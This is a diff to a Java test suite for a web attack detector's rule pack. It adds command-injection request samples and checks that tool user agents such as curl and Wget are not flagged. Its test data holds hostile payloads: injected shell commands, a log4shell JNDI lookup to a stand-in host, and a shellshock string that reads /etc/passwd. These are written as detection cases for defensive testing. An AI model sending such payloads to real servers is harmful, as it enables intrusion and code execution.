@@ -64,6 +64,11 @@ public class RulePackTest {
       "/c?h=x%7Cid|cmdi|",
       "/c?h=$(whoami)|cmdi|",
       "/c?h=a%0aid|cmdi|",
+      "/|cmdi|uname -a",
+      "/|cmdi|; net view",
+      "/|cmdi|perl -e 'print 1'",
+      "/|cmdi|whoami",
+      "/files/ls%20-l%20/etc/|cmdi|",
       "/|log4shell|${jndi:ldap://x.example/a}",
       "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
       "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
@@ -111,9 +116,21 @@ public class RulePackTest {
       "/static/app.3f9a1c.js", "/login?next=%2Faccount", "/downloads/manual.zip",
       "/search?q=tom+%26+jerry", "/search?q=drop+shipping", "/wp-login.php"})
   void leavesBenignTrafficAlone(String target) {
-    Verdict v = detector.judge(get(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
-        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 200), "s");
-    assertThat(v.attack()).as("%s", v).isFalse();
+    leavesBenignAgentsAlone(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
+        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36");
+  }
+
+  /** Tools name themselves, some with nothing but their name: not a command line. */
+  @ParameterizedTest
+  @CsvSource(delimiter = '|', value = {"curl", "curl/8.5.0", "Wget/1.21.4", "python-requests/2.31",
+      "Python-urllib/3.11", "PHP/8.2", "Echobot", "net/http", "ping-o-matic", "Go-http-client/1.1"})
+  void leavesToolAgentsAlone(String agent) {
+    leavesBenignAgentsAlone("/robots.txt", agent);
+  }
+
+  private static void leavesBenignAgentsAlone(String target, String agent) {
+    Verdict v = detector.judge(get(target, agent, 200), "s");
+    assertThat(v.attack()).as("%s %s", target, v).isFalse();
   }
 
   @ParameterizedTest(name = "{0} -> attack {1}")
@@ -237,7 +254,7 @@ public class RulePackTest {
   @Test
   void ruleSetCarriesVersionAndHash() throws IOException {
     RuleSet rs = RuleSet.parse(builtIn());
-    assertThat(rs.version()).contains("evident 2026.11.1");
+    assertThat(rs.version()).contains("evident 2026.11.2");
     assertThat(rs.sha256()).hasSize(64);
     List<RuleFile> changed = new ArrayList<>(builtIn());
     changed.add(new RuleFile("x.yaml", "# nothing"));
